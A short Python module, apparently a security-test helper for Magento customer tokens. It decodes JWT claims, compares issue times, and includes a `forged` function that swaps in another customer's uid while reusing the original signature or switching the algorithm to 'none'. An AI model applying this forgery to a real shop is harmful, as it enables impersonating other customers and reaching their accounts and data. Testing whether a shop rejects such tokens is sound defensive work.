"""What a customer token says of itself: from Magento 2.4.4 on it is a JWT, before that it says nothing."""

import base64
import json
from typing import Any

from pydantic import SecretStr

_PARTS_OF_A_JWT = 3


def is_jwt(token: SecretStr) -> bool:
    """Tell whether the token has the three parts of a JWT."""
    return token.get_secret_value().count(".") == _PARTS_OF_A_JWT - 1


def claims_of(token: SecretStr) -> dict[str, int]:
    """Decode a JWT's claims (`uid`, `utypid`, `iat`, `exp`); its signature is the shop's business."""
    claims: dict[str, int] = _decoded(token.get_secret_value().split(".")[1])
    return claims


def seconds_between(older: SecretStr, younger: SecretStr) -> float:
    """Give the seconds between the issue of two tokens by the shop's clock; infinite where they do not say."""
    if not is_jwt(older):
        return float("inf")
    return claims_of(younger)["iat"] - claims_of(older)["iat"]


def forged(token: SecretStr, customer_id: int, *, signed: bool) -> SecretStr:
    """Make of a customer's JWT another customer's, with the first one's signature or with none at all."""
    header, _, signature = token.get_secret_value().split(".")
    claims = _encoded({**claims_of(token), "uid": customer_id})
    if signed:
        return SecretStr(f"{header}.{claims}.{signature}")
    return SecretStr(f"{_encoded({**_decoded(header), 'alg': 'none'})}.{claims}.")


def _decoded(part: str) -> Any:
    return json.loads(base64.urlsafe_b64decode(part + "=" * (-len(part) % 4)))


def _encoded(part: dict[str, Any]) -> str:
    return base64.urlsafe_b64encode(json.dumps(part).encode()).rstrip(b"=").decode()
